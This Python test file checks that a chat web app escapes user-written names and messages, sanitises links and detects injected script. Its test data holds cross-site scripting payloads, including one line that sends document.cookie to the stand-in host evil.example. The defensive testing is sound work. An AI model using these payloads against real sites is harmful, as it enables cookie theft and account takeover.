"""What people write is text, wherever it is shown; faults/fuzz/xss.py has the long form."""

import pytest

from faults.fuzz import xss
from tests.doors.clients import PASSWORD, sign_up
from tests.interfaces.web.conftest import browser  # noqa: F401  (fixture)
from tests.stack import open_room

NAMES = ["<script>ran(1)</script>", '"><svg/onload=ran(1)>', "<img src=x onerror=ran(1)>"]
TEXTS = [
    "<img src='https://evil.example/?' + document.cookie>",
    "javascript:ran(1) data:text/html,<script>ran(1)</script> //evil.example",
    'https://a.example/"onmouseover="ran(1)',
    "https://a.example/\u202emoc.elgoog//:sptth",
    "</script><script>ran(1)</script>",
]


def appoint(person):
    from accounts.models import User

    User.objects.filter(pk=person.id).update(is_staff=True, is_superuser=True)


@pytest.fixture
def watched(stack, browser):  # noqa: F811
    people = []

    def watched(session=""):
        people.append(xss.Watched(browser, stack.urls[1], session, xss.COOKIE))
        return people[-1]

    yield watched
    for each in people:
        each.close()


def test_nothing_that_people_write_becomes_script(stack, watched):
    email, rest = sign_up(stack.urls[0], "Mallory")
    (boss,) = stack.people("boss")
    stack.run(appoint, boss)
    rooms = xss.plant(stack.urls[0], rest.headers["Authorization"].split()[1], NAMES, TEXTS)
    person = rest("GET", "/api/v1/me/").json["id"]
    hers, theirs = watched(), watched(boss.session)
    hers.page.goto("/accounts/sign-in/")
    hers.page.locator("[name=username]").fill(email)
    hers.page.locator("[name=password]").fill(PASSWORD)
    hers.page.locator("main button[type=submit]").click()
    hers.page.wait_for_url("**/")
    xss.by_page(hers, NAMES[1], TEXTS[0])
    for path, ready in xss.pages(rooms, NAMES[0]):
        hers.look(path, ready)
    for path in list(xss.admin_pages(rooms, person, NAMES[2]))[:5]:
        theirs.look(path)
    assert hers.shown + theirs.shown == []
    assert hers.saw_payload > 8 and theirs.saw_payload > 2


def test_an_address_in_a_message_leads_where_it_says_and_the_page_behind_cannot_turn_ours(
    stack, watched
):
    (alice,) = stack.people("alice")
    room = stack.run(open_room, alice)
    page = watched(alice.session).page
    page.goto(f"/rooms/{room}/")
    xss.in_room(page)
    page.locator("#body").fill("javascript:ran(1) https://a.example/\u202emoc.elgoog data:,x")
    page.locator("#body").press("Enter")
    link = page.locator("#log .message-body a")
    link.wait_for()
    assert link.count() == 1
    assert link.get_attribute("href") == link.text_content() == "https://a.example/"
    assert set(link.get_attribute("rel").split()) == {"noopener", "noreferrer", "nofollow"}


def test_the_look_at_a_page_sees_what_it_looks_for(stack, watched):
    nobody = watched()
    nobody.look("/")
    assert nobody.shown == []
    nobody.page.evaluate(
        """() => { document.body.insertAdjacentHTML("beforeend",
        `<img src="https://evil.example/x" onerror="ran(1)"><a href="javascript:ran(1)">x</a>`) }"""
    )
    nobody.page.evaluate("() => { console.error('oh'); setTimeout(() => alert(1)) }")
    nobody.page.wait_for_timeout(200)
    nobody.judge()
    assert nobody.findings["element"] >= 2 and nobody.findings["dialog"] == 1
    assert nobody.findings["csp_violation"] and nobody.findings["console_error"]
